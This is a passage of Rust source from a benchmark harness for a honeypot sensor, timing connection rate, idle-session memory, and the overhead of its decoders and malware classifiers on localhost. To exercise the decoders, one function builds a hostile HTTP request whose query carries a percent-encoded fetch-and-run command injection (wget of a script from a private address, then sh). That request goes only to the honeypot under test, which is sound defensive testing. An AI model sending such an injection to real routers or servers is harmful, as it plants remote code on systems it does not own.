        .worker_threads(client_threads(args))
        .thread_name("connbench-client")
        .enable_all()
        .build()?;
    let c = Arc::new(RateCounters::default());
    let t0 = tokio::time::Instant::now();
    let warm_end = t0 + Duration::from_secs_f64(args.warmup);
    let end = warm_end + Duration::from_secs_f64(args.duration);
    let max = args.max_connections;
    let handles: Vec<_> = (0..args.concurrency)
        .map(|i| {
            let c = Arc::clone(&c);
            let src = source_addr(i, args.sources);
            let request = Arc::clone(&request);
            rt.spawn(async move {
                // Bounded by time (end) and by count (max).
                while tokio::time::Instant::now() < end && c.started.fetch_add(1, Relaxed) < max {
                    match tokio::time::timeout(CONN_TIMEOUT, one_connection(src, dst, &request))
                        .await
                    {
                        Ok(Ok(())) => {
                            let now = tokio::time::Instant::now();
                            let slot = if now < warm_end {
                                &c.warmup
                            } else if now < end {
                                &c.measured
                            } else {
                                &c.after
                            };
                            slot.fetch_add(1, Relaxed);
                        }
                        Ok(Err(e)) => {
                            match e {
                                ConnError::Connect => c.err_connect.fetch_add(1, Relaxed),
                                ConnError::Io => c.err_io.fetch_add(1, Relaxed),
                            };
                            tokio::time::sleep(Duration::from_millis(1)).await;
                        }
                        Err(_) => {
                            c.err_timeout.fetch_add(1, Relaxed);
                        }
                    }
                }
            })
        })
        .collect();
    let pid = target.pid();
    std::thread::sleep(warm_end.saturating_duration_since(tokio::time::Instant::now()));
    let cpu0 = CpuSample::take(pid);
    let m0 = c.measured.load(Relaxed);
    // Per-second progress, to see whether the rate holds over the window.
    let mut per_second = Vec::new();
    let mut last = m0;
    let mut tick = warm_end;
    while tick < end {
        tick = (tick + Duration::from_secs(1)).min(end);
        std::thread::sleep(tick.saturating_duration_since(tokio::time::Instant::now()));
        let now = c.measured.load(Relaxed);
        per_second.push(now - last);
        last = now;
    }
    let cpu1 = CpuSample::take(pid);
    let m1 = c.measured.load(Relaxed);
    eprintln!(
        "[rate] {}: completed per second: {per_second:?}",
        target.name
    );
    rt.block_on(async {
        for h in handles {
            let _ = h.await;
        }
    });
    rt.shutdown_timeout(Duration::from_secs(1));
    let measured = c.measured.load(Relaxed);
    let completed_total = c.warmup.load(Relaxed) + measured + c.after.load(Relaxed);
    let per_conn = |a: Option<Duration>, b: Option<Duration>| match (a, b) {
        (Some(a), Some(b)) if m1 > m0 => Some(b.saturating_sub(a) / (m1 - m0) as u32),
        _ => None,
    };
    let cpu_per_conn = per_conn(cpu0.target, cpu1.target);
    let client_cpu_per_conn = per_conn(cpu0.me, cpu1.me);
    let thread_cpu_per_conn = cpu1
        .threads
        .iter()
        .filter_map(|(name, t1)| {
            let d = per_conn(cpu0.threads.get(name).copied(), Some(*t1))?;
            Some((name.clone(), d))
        })
        .collect();
    let other_cpu = match (cpu0, cpu1) {
        (
            CpuSample {
                target: Some(t0),
                me: Some(m0),
                all: Some(a0),
                ..
            },
            CpuSample {
                target: Some(t1),
                me: Some(m1),
                all: Some(a1),
                ..
            },
        ) => {
            let other = a1
                .saturating_sub(a0)
                .saturating_sub(t1.saturating_sub(t0))
                .saturating_sub(m1.saturating_sub(m0));
            Some(other.as_secs_f64() / args.duration)
        }
        _ => None,
    };
    Ok(RateResult {
        rate: measured as f64 / args.duration,
        completed_total,
        measured,
        errors: (
            c.err_connect.load(Relaxed),
            c.err_io.load(Relaxed),
            c.err_timeout.load(Relaxed),
        ),
        cpu_per_conn,
        client_cpu_per_conn,
        other_cpu,
        thread_cpu_per_conn,
        per_second,
    })
}

fn rate_row(target: &'static str, r: &RateResult) -> Row {
    let mut x = row("rate", target, format!("{:.0} conn/s", r.rate));
    let (ec, ei, et) = r.errors;
    let us =
        |d: Option<Duration>| d.map_or("?".into(), |d| format!("{:.1}", d.as_secs_f64() * 1e6));
    let min = r.per_second.iter().min().copied().unwrap_or(0);
    let max = r.per_second.iter().max().copied().unwrap_or(0);
    let threads: Vec<String> = r
        .thread_cpu_per_conn
        .iter()
        .filter(|(_, d)| *d >= Duration::from_nanos(50))
        .map(|(n, d)| format!("{n} {}", us(Some(*d))))
        .collect();
    x.notes = format!(
        "{} in window (per second {min}..{max}), {} total; errors connect={ec} io={ei} timeout={et}; CPU us/conn server {} client {}; other load {}; server threads us/conn: {}",
        r.measured,
        r.completed_total,
        us(r.cpu_per_conn),
        us(r.client_cpu_per_conn),
        r.other_cpu.map_or("?".into(), |c| format!("{:.2} CPU", c)),
        threads.join(", "),
    );
    x
}

/// The honeytrap config both scenarios use; they differ only in the timeouts, the
/// session cap and the greeting.
fn bench_config(
    args: &Args,
    read_timeout: &str,
    session_timeout: &str,
    max_sessions: usize,
    greeting: &str,
) -> String {
    format!(
        r#"[sensor]
data_dir = "@DATA@"

[network]
bind_addresses = ["127.0.0.1"]
backlog = 4096

[monitor]
kind = "listen"

[monitor.listen]
tcp = [{port}]
udp = []

[limits]
read_timeout = "{read_timeout}"
session_timeout = "{session_timeout}"
max_sessions = {max_sessions}
max_sessions_per_source = {max_sessions}
source_rate = 10000000.0
source_burst = 10000000

[ports]
responses = 10
{greeting}
[output]
queue_size = 65536

{analysis}{extra}{outputs}"#,
        port = args.port,
        analysis = args.analysis.toml(&args.analysis_set),
        extra = args.extra_toml,
        outputs = args.outputs.toml(args.transcript_layout)
    )
}

fn rate_config(args: &Args) -> String {
    bench_config(args, "1s", "5m", 10_000, "")
}

fn scenario_rate(args: &Args, rows: &mut Vec<Row>) -> Result<()> {
    let run_bare = |rows: &mut Vec<Row>| -> Result<RateResult> {
        eprintln!("[rate] bare server: starting");
        let mut t = Target::bare(args.port)?;
        eprintln!(
            "[rate] bare server: {}s warm-up + {}s load",
            args.warmup, args.duration
        );
        let r = run_rate(args, &t)?;
        t.stop(Duration::from_secs(10))?;
        eprintln!("[rate] bare server: {:.0} conn/s", r.rate);
        rows.push(rate_row("bare", &r));
        Ok(r)
    };
    let run_ht = |rows: &mut Vec<Row>| -> Result<(RateResult, Row)> {
        eprintln!("[rate] honeytrap: starting");
        let mut t = Target::honeytrap(args, &rate_config(args))?;
        eprintln!(
            "[rate] honeytrap: {}s warm-up + {}s load",
            args.warmup, args.duration
        );
        let r = run_rate(args, &t)?;
        eprintln!(
            "[rate] honeytrap: {:.0} conn/s; SIGTERM, waiting for the records",
            r.rate
        );
        // Events already on disk when the load stops; what the recorder writes after
        // SIGTERM was its backlog (the 64 KiB write buffer makes this approximate).
        let events = t.data_dir().unwrap().join("events.jsonl");
        let at_stop = count_lines(&events).ok();
        let stopped = t.stop(Duration::from_secs(120))?;
        let mut rec = records_row(
            "records",
            &stopped,
            &t.data_dir().unwrap(),
            r.completed_total,
            args.outputs,
        );
        if let (Some(a), Ok(b)) = (at_stop, count_lines(&events)) {
            let backlog = b.saturating_sub(a);
            let secs = stopped.took.as_secs_f64();
            rec.notes.push_str(&format!(
                "; backlog at SIGTERM ~{backlog} records{}",
                if backlog > 1000 && secs > 0.5 {
                    format!(", written after it at ~{:.0}/s", backlog as f64 / secs)
                } else {
                    String::new()
                }
            ));
        }
        rows.push(rate_row("honeytrap", &r));
        eprintln!("[rate] honeytrap: removing the data directory");
        drop(t);
        Ok((r, rec))
    };
    let (bare, (ht, rec)) = if args.honeytrap_first {
        let h = run_ht(rows)?;
        settle_pause();
        (run_bare(rows)?, h)
    } else {
        let b = run_bare(rows)?;
        settle_pause();
        (b, run_ht(rows)?)
    };
    let ratio = ht.rate / bare.rate.max(1e-9);
    let hrow = rows
        .iter_mut()
        .find(|r| r.scenario == "rate" && r.target == "honeytrap")
        .unwrap();
    hrow.ratio = format!("{ratio:.2}x");
    hrow.goal = format!(
        ">= 0.70x: {}",
        if ratio >= 0.70 { "met" } else { "NOT met" }
    );
    rows.push(rec);
    Ok(())
}

/// Between two targets: let the previous one's sockets drain.
fn settle_pause() {
    std::thread::sleep(Duration::from_secs(2));
}

// ---------------------------------------------------------------------------
// Memory scenario

struct MemoryResult {
    rss_before: u64,
    rss_after: u64,
    opened: usize,
    per_session_kib: f64,
}

fn memory_config(args: &Args) -> String {
    let cap = args.idle_sessions + MEMORY_WARM + 1024;
    bench_config(args, "1h", "2h", cap, "greeting = \"never\"\n")
}

/// Open `n` silent connections (blocking connects, bounded by `deadline`).
fn open_idle(
    n: usize,
    first: usize,
    sources: u8,
    dst: SocketAddr,
    deadline: Instant,
    into: &mut Vec<socket2::Socket>,
) -> usize {
    let mut failed = 0;
    for i in 0..n {
        if Instant::now() > deadline {
            eprintln!("[memory] deadline reached after {i} of {n} connections");
            break;
        }
        let s = (|| -> std::io::Result<socket2::Socket> {
            let s = socket2::Socket::new(
                socket2::Domain::IPV4,
                socket2::Type::STREAM,
                Some(socket2::Protocol::TCP),
            )?;
            let one: libc::c_int = 1;
            unsafe {
                libc::setsockopt(
                    s.as_raw_fd(),
                    libc::IPPROTO_IP,
                    libc::IP_BIND_ADDRESS_NO_PORT,
                    &one as *const _ as *const libc::c_void,
                    std::mem::size_of_val(&one) as libc::socklen_t,
                );
            }
            s.bind(&SocketAddr::new(source_addr(first + i, sources), 0).into())?;
            s.connect_timeout(&dst.into(), Duration::from_secs(3))?;
            Ok(s)
        })();
        match s {
            Ok(s) => into.push(s),
            Err(e) => {
                failed += 1;
                if failed <= 3 {
                    eprintln!("[memory] connect failed: {e}");
                }
                if failed > 100 {
                    eprintln!("[memory] too many failed connects, giving up");
                    break;
                }
            }
        }
    }
    failed
}

/// Wait until `pid` holds at least `fds` descriptors (all connections accepted), then
/// until its RSS is stable; returns the RSS in KiB.
fn settle(pid: u32, fds: usize) -> Result<u64> {
    let t0 = Instant::now();
    while fd_count(pid)? < fds {
        if t0.elapsed() > Duration::from_secs(15) {
            eprintln!(
                "[memory] only {} of {fds} descriptors after 15 s",
                fd_count(pid)?
            );
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let t1 = Instant::now();
    let mut last = rss_kib(pid)?;
    let mut stable = 0;
    while stable < 3 && t1.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(300));
        let now = rss_kib(pid)?;
        if now.abs_diff(last) <= 16 {
            stable += 1;
        } else {
            stable = 0;
        }
        last = now;
    }
    Ok(last)
}

fn measure_memory(args: &Args, t: &Target) -> Result<MemoryResult> {
    let dst = SocketAddr::from((Ipv4Addr::LOCALHOST, args.port));
    let pid = t.pid();
    let deadline = Instant::now() + Duration::from_secs(20);
    let fds0 = fd_count(pid)?;
    let mut conns = Vec::with_capacity(args.idle_sessions + MEMORY_WARM);
    open_idle(MEMORY_WARM, 0, args.sources, dst, deadline, &mut conns);
    let warm = conns.len();
    let before = settle(pid, fds0 + warm)?;
    let fds1 = fd_count(pid)?;
    eprintln!(
        "[memory] {}: RSS {before} KiB with {warm} warm-up sessions; opening {}",
        t.name, args.idle_sessions
    );
    open_idle(
        args.idle_sessions,
        MEMORY_WARM,
        args.sources,
        dst,
        deadline,
        &mut conns,
    );
    let opened = conns.len() - warm;
    let after = settle(pid, fds1 + opened)?;
    let accepted = fd_count(pid)?.saturating_sub(fds1);
    eprintln!(
        "[memory] {}: RSS {after} KiB with {opened} more sessions ({accepted} accepted)",
        t.name
    );
    if accepted < opened {
        eprintln!("[memory] warning: the target holds fewer sockets than were opened");
    }
    // Close them all: honeytrap records each session as it sees the EOF.
    drop(conns);
    let t0 = Instant::now();
    while fd_count(pid)? > fds0 && t0.elapsed() < Duration::from_secs(15) {
        std::thread::sleep(Duration::from_millis(100));
    }
    Ok(MemoryResult {
        rss_before: before,
        rss_after: after,
        opened: warm + opened,
        per_session_kib: (after as f64 - before as f64) / opened.max(1) as f64,
    })
}

fn memory_row(target: &'static str, m: &MemoryResult, n: usize) -> Row {
    let mut r = row(
        "memory",
        target,
        format!("{:.2} KiB/session", m.per_session_kib),
    );
    r.notes = format!(
        "VmRSS {:.1} -> {:.1} MiB for {} idle sessions",
        m.rss_before as f64 / 1024.0,
        m.rss_after as f64 / 1024.0,
        n
    );
    r
}

fn scenario_memory(args: &Args, rows: &mut Vec<Row>) -> Result<()> {
    eprintln!("[memory] bare server: starting");
    let mut t = Target::bare(args.port)?;
    let bare = measure_memory(args, &t)?;
    t.stop(Duration::from_secs(10))?;
    drop(t);
    rows.push(memory_row("bare", &bare, bare.opened - MEMORY_WARM));
    settle_pause();

    eprintln!("[memory] honeytrap: starting");
    let mut t = Target::honeytrap(args, &memory_config(args))?;
    let ht = measure_memory(args, &t)?;
    let stopped = t.stop(Duration::from_secs(60))?;
    let rec = records_row(
        "records",
        &stopped,
        &t.data_dir().unwrap(),
        ht.opened as u64,
        args.outputs,
    );
    drop(t);
    let mut r = memory_row("honeytrap", &ht, ht.opened - MEMORY_WARM);
    if bare.per_session_kib > 0.0 {
        r.ratio = format!("{:.1}x", ht.per_session_kib / bare.per_session_kib);
    }
    r.goal = format!(
        "<= 16 KiB: {}",
        if ht.per_session_kib <= 16.0 {
            "met"
        } else {
            "NOT met"
        }
    );
    rows.push(r);
    let mut rec = rec;
    rec.scenario = "records";
    rec.notes = format!("(memory run) {}", rec.notes);
    rows.push(rec);
    Ok(())
}

// ---------------------------------------------------------------------------
// Analysis scenario

fn request_kind(args: &Args) -> Request {
    args.request.unwrap_or(match args.scenario {
        Scenario::Analysis => Request::Decoders,
        Scenario::Classifiers => Request::Classifiers,
        _ => Request::Plain,
    })
}

/// An HTTP request that gives the decoders and a downloader work: a percent-encoded
/// query (percent), `Authorization: NTLM` with an NTLMSSP Authenticate message
/// (base64, whose copy holds UTF-16LE names), and a `wget` of a private address in
/// the query (the http downloader parses it and refuses the address before any
/// connect; the dedup window answers later attacks from its memory).
fn decoder_request() -> Vec<u8> {
    use base64::Engine as _;
    let utf16 = |s: &str| {
        s.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let fields = [
        vec![0x11; 24],
        vec![0x22; 24],
        utf16("WORKGROUP"),
        utf16("administrator"),
        utf16("KALI"),
        vec![0x33; 16],
    ];
    let mut m = b"NTLMSSP\0".to_vec();
    m.extend(3u32.to_le_bytes());
    let mut offset = 64u32;
    for f in &fields {
        m.extend((f.len() as u16).to_le_bytes());
        m.extend((f.len() as u16).to_le_bytes());
        m.extend(offset.to_le_bytes());
        offset += f.len() as u32;
    }
    m.extend(0xe288_8215u32.to_le_bytes());
    for f in &fields {
        m.extend(f);
    }
    let blob = base64::engine::general_purpose::STANDARD.encode(&m);
    format!(
        "GET /cgi-bin/luci?cmd=%63%64%20%2Ftmp%3B%20wget%20http%3A%2F%2F10.9.8.7%2Fbins%2Fx.sh%3B%20sh%20x.sh HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/5.0\r\nAuthorization: NTLM {blob}\r\n\r\n"
    )
    .into_bytes()
}

/// One honeytrap rate run with `mode`: the rate row and the records row.
fn honeytrap_rate(
    args: &Args,
    mode: AnalysisMode,
    label: &'static str,
) -> Result<(RateResult, Row, Row)> {
    let mut a = args.clone();
    a.analysis = mode;
    eprintln!("[analysis] honeytrap, {label}: starting");
    let mut t = Target::honeytrap(&a, &rate_config(&a))?;
    let r = run_rate(&a, &t)?;
    eprintln!(
        "[analysis] honeytrap, {label}: {:.0} conn/s; SIGTERM",
        r.rate
    );
    let stopped = t.stop(Duration::from_secs(120))?;
    let data = t.data_dir().unwrap();
    let mut rec = records_row("records", &stopped, &data, r.completed_total, a.outputs);
    if let Ok((_, virt)) = count_events(&data.join("events.jsonl")) {
        rec.notes
            .push_str(&format!("; virtual-attack events={virt}"));
    }
    rec.target = label;
    let mut row = rate_row(label, &r);
    row.scenario = "analysis";
    drop(t);
    Ok((r, row, rec))
}

fn scenario_analysis(args: &Args, rows: &mut Vec<Row>) -> Result<()> {
    eprintln!(
        "[analysis] request ({:?}, {} bytes): {}",
        request_kind(args),
        decoder_request().len(),
        String::from_utf8_lossy(&match request_kind(args) {
            Request::Plain => REQUEST.to_vec(),
            Request::Decoders => decoder_request(),
            Request::Classifiers => classifiers::bench_request(),
        })
        .escape_debug()
    );
    let mut ratios = Vec::new();
    for round in 0..args.rounds {
        if round > 0 {
            settle_pause();
        }
        let (off, off_row, off_rec) = honeytrap_rate(args, AnalysisMode::Off, "ht-off")?;
        settle_pause();
        let (on, mut on_row, on_rec) = honeytrap_rate(args, AnalysisMode::On, "ht-on")?;
        let ratio = on.rate / off.rate.max(1e-9);
        ratios.push(ratio);
        on_row.ratio = format!("{ratio:.2}x");
        on_row.goal = format!(
            ">= 0.90x: {}",
            if ratio >= 0.90 { "met" } else { "NOT met" }
        );
        rows.extend([off_row, on_row, off_rec, on_rec]);
    }
    if ratios.len() > 1 {
        rows.push(summary_row("analysis", &ratios));
    }
    Ok(())
}

/// The summary of several on/off rounds: the range, and the median, which the
/// verdict is on (one round's ratio moves by ±10 % with the machine's speed
/// between its two halves; see docs/benchmarks.md).
fn summary_row(scenario: &'static str, ratios: &[f64]) -> Row {
    let mut sorted = ratios.to_vec();
    sorted.sort_by(f64::total_cmp);
    let n = sorted.len();
    let median = if n % 2 == 1 {
        sorted[n / 2]
    } else {
        (sorted[n / 2 - 1] + sorted[n / 2]) / 2.0
    };
    let mut r = row(scenario, "on/off", format!("{n} rounds"));
    r.ratio = format!("{median:.2}x");
    r.goal = format!(
        ">= 0.90x: {}",
        if median >= 0.90 { "met" } else { "NOT met" }
    );
    r.notes = format!(
        "median of {n} rounds; range {:.2}-{:.2}x; met in {} of {n}",
        sorted[0],
        sorted[n - 1],
        ratios.iter().filter(|&&x| x >= 0.90).count()
    );
    r
}

// ---------------------------------------------------------------------------
// Classifiers scenario

/// /proc/loadavg's first three fields.
fn load_average() -> String {
    std::fs::read_to_string("/proc/loadavg")
        .map(|s| s.split_whitespace().take(3).collect::<Vec<_>>().join(" "))
        .unwrap_or_else(|_| "?".into())
}

/// Off/on pairs like `analysis`, the "on" run with every classifier on (exe,
/// fuzzy with signatures, yara with the ruleset, clamav with the harness's clamd,
/// shellcode) besides the default decoders and downloaders.
fn scenario_classifiers(args: &Args, rows: &mut Vec<Row>) -> Result<()> {
    let fixtures =
        classifiers::Fixtures::new(&[classifiers::bench_elf()], args.no_clamd, args.clamd_nice)
            .context("classifier fixtures")?;
    let req = match request_kind(args) {
        Request::Plain => REQUEST.to_vec(),
        Request::Decoders => decoder_request(),
        Request::Classifiers => classifiers::bench_request(),
    };
    println!("# classifiers: {}", fixtures.describe());
    println!(
        "# request: {:?}, {} bytes; load average before: {}",
        request_kind(args),
        req.len(),
        load_average()
    );
    let mut on_args = args.clone();
    on_args.extra_toml = fixtures.toml();
    let mut ratios = Vec::new();
    for round in 0..args.rounds {
        if round > 0 {
            settle_pause();
        }
        let (off, mut off_row, off_rec) = honeytrap_rate(args, AnalysisMode::Off, "ht-off")?;
        off_row.scenario = "classif.";
        off_row
            .notes
            .push_str(&format!("; loadavg {}", load_average()));
        settle_pause();
        let clamd = fixtures.clamd.as_ref();
        let (cpu0, t0) = (clamd.and_then(|c| c.cpu()), Instant::now());
        let (on, mut on_row, on_rec) = honeytrap_rate(&on_args, AnalysisMode::On, "ht-on")?;
        on_row.scenario = "classif.";
        on_row
            .notes
            .push_str(&format!("; loadavg {}", load_average()));
        // clamd is a process of its own: its CPU is in "other load", shown apart.
        if let (Some(a), Some(b)) = (cpu0, clamd.and_then(|c| c.cpu())) {
            on_row.notes.push_str(&format!(
                "; clamd CPU {:.2} s ({:.2} CPU over the run)",
                (b - a).as_secs_f64(),
                (b - a).as_secs_f64() / t0.elapsed().as_secs_f64()
            ));
        }
        let ratio = on.rate / off.rate.max(1e-9);
        ratios.push(ratio);
        on_row.ratio = format!("{ratio:.2}x");
        on_row.goal = format!(
            ">= 0.90x: {}",
            if ratio >= 0.90 { "met" } else { "NOT met" }
        );
        rows.extend([off_row, on_row, off_rec, on_rec]);
    }
    if ratios.len() > 1 {
        rows.push(summary_row("classif.", &ratios));
    }
    Ok(())
}
